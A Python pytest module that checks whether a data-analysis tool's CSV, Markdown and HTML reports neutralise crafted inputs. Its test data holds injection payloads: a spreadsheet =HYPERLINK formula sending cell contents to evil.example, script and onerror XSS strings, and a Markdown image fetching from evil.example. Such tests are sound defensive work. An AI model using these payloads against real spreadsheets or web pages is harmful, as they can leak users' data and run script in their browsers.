"""Crafted and odd inputs (issue 13, RELIABILITY.md fault 30): ids, texts, labels, the run's name and a descriptor's
name holding spreadsheet formulas, HTML and Markdown table breakers. samples.csv marks formula-like text cells
with a leading ' (numeric columns stay numbers) and reads back exactly; report.md and report.html show the HTML
as text and keep every table's column count."""

from __future__ import annotations

import csv
import re

import numpy as np
import pytest

from mixsig.analysis import analyse, csv_text_value, write_report
from mixsig.cli import main
from tests.analysis.helpers import planted, to_store

CRAFTED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)",
           "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a|b", "new\nline", "\tTAB", "\rCR",
           "'=quoted already", "\uff1d1+1", "back\\|slash", "![x](http://evil.example/t.png)", "plain; =1+1"]
CLASSES = ("=1+1|<script>alert(1)</script>", "-2+3 <img src=x onerror=alert(1)>")
RUN = "<img src=x onerror=alert(2)>|=run"
DESCRIPTOR = "=cmd|<script>d</script>"
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXT_COLUMNS = ("id", "split", "label", "pred[text]", "pred[audio]", "pred[text+audio]", "category", "followed",
                "lone_follow", "text")


def _crafted_input(n=60):
    inp, _ = planted(n=n, seed=5, modalities=("text", "audio"), n_classes=2)
    inp.ids = np.array([f"{CRAFTED[i % len(CRAFTED)]} {i}" for i in range(n)])
    inp.text = np.array([CRAFTED[(i + 4) % len(CRAFTED)] for i in range(n)])
    inp.classes = CLASSES
    inp.run_name = RUN
    return inp


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """The crafted run through the store and `mixsig report` (the CLI), and analysed directly with a crafted
    descriptor (negative values) through the API."""
    tmp = tmp_path_factory.mktemp("crafted")
    inp = _crafted_input()
    to_store(tmp / "s.zarr", inp)
    assert main(["report", str(tmp / "s.zarr"), "--run", RUN, "--out", str(tmp / "cli"), "--no-plots",
                 "--bootstrap", "0", "--top", "20"]) == 0
    desc = np.linspace(-1.25, 0.75, len(inp.ids))  # -0.25 and friends: numbers, not formulas
    result = analyse(_crafted_input(), split="test", n_boot=0, top_k=20, media_descriptors=False,
                     descriptors={DESCRIPTOR: desc})
    paths = write_report(result, tmp / "api", plots=False)
    return {"cli": tmp / "cli", "api": paths, "result": result, "inp": inp}


def _csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_samples_csv_marks_formula_cells_and_reads_back(report):
    rows = _csv(report["cli"] / "samples.csv")
    header, body = rows[0], rows[1:]
    assert len(body) == 60 and all(len(r) == len(header) for r in body)
    for col in TEXT_COLUMNS:
        j = header.index(col)
        for r in body:
            cell = r[j]
            assert not cell.startswith(FORMULA), f"{col}: {cell!r} would run as a formula"
    ids = [csv_text_value(r[header.index("id")]) for r in body]
    assert ids == report["inp"].ids.tolist()  # every id comes back exactly
    texts = [csv_text_value(r[header.index("text")]) for r in body]
    assert texts == [t[:80] for t in report["inp"].text.tolist()]
    assert {csv_text_value(r[header.index("label")]) for r in body} == set(CLASSES)
    raw_ids = [r[header.index("id")] for r in body]
    assert "'=HYPERLINK(" in raw_ids[0] and raw_ids[1] == "'+1 1" and raw_ids[2] == "'-2+3 2"
    assert raw_ids[10] == "''=quoted already 10"  # an existing leading ' is marked too, so reading back is exact
    # and the file as written: a cell with ; is quoted (a semicolon-locale spreadsheet cannot split it)
    raw = (report["cli"] / "samples.csv").read_text(encoding="utf-8")
    assert '"plain; =1+1 14"' in raw


def test_samples_csv_numeric_columns_stay_numbers(report):
    rows = _csv(report["api"]["csv"])
    header, body = rows[0], rows[1:]
    j = header.index(f"desc[{DESCRIPTOR}]")  # the column name starts with desc[: not a formula
    values = [float(r[j]) for r in body]  # plain numbers, no ' in front
    assert min(values) == pytest.approx(-1.25) and any(-1 < v < 0 for v in values)
    assert any(r[j].startswith("-") for r in body)
    for col in ("conf[text]", "p_true[text+audio]", "n_disagree", "entropy", "majority_share"):
        assert all(re.fullmatch(r"-?[0-9.e+-]*", r[header.index(col)]) for r in body), col


def _md_cells(line: str) -> list[str]:
    """A GFM table row's cells: split on | not escaped by a backslash (a backslash escapes the next char)."""
    cells, cur, i = [], "", 0
    body = line.strip()[1:-1] if line.strip().endswith("|") and not line.strip().endswith("\\|") else None
    assert body is not None, f"row does not end in an unescaped |: {line!r}"
    while i < len(body):
        ch = body[i]
        if ch == "\\" and i + 1 < len(body):
            cur += body[i:i + 2]
            i += 2
            continue
        if ch == "|":
            cells.append(cur)
            cur = ""
        else:
            cur += ch
        i += 1
    return cells + [cur]


def _tables(md: str) -> list[list[str]]:
    tables, cur = [], []
    for line in md.split("\n"):
        if line.startswith("|"):
            cur.append(line)
        elif cur:
            tables.append(cur)
            cur = []
    return tables + ([cur] if cur else [])


@pytest.mark.parametrize("which", ["cli", "api"])
def test_report_md_shows_html_as_text_and_keeps_table_columns(report, which):
    md = ((report["cli"] / "report.md") if which == "cli" else report["api"]["md"]).read_text(encoding="utf-8")
    assert "<script" not in md.lower() and "<img" not in md.lower()
    assert "](" not in md  # no inline link or image: nothing fetched when rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "&lt;img src=x onerror=alert(2)&gt;" in md
    assert md.startswith("# mixsig disagreement report — run &lt;img src=x onerror=alert(2)&gt;|=run\n")
    tables = _tables(md)
    assert len(tables) >= 5
    top_rows = 0
    for t in tables:
        width = len(_md_cells(t[0]))
        assert t[1] == "|" + "---|" * width
        for line in t[2:]:
            assert len(_md_cells(line)) == width, f"row breaks its table: {line!r}"
        if _md_cells(t[0])[0].strip() == "id":
            top_rows += len(t) - 2
    assert top_rows >= 2  # the top-samples tables, crafted ids and texts in them
    assert "a\\|b" in md and "back\\\\\\|slash" in md
    assert "new line" in md and "new\nline" not in md and "\r" not in md  # CR alone ends a Markdown line too
    assert "drop the first ' of every text cell that starts with one" in md  # how to read samples.csv back
    if which == "api":
        assert "=cmd\\|&lt;script&gt;d&lt;/script&gt;" in md  # the descriptor's name in its tables


def test_report_html_still_escapes(report):
    html = (report["cli"] / "report.html").read_text(encoding="utf-8")
    low = html.lower()  # the only scripts: the sample browser's JSON blob and its script (plots off: no figure)
    assert low.count("<script") == 2 and low.count("</script") == 2 and "<img" not in low
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "<title>mixsig report — &lt;img src=x onerror=alert(2)&gt;|=run</title>" in html
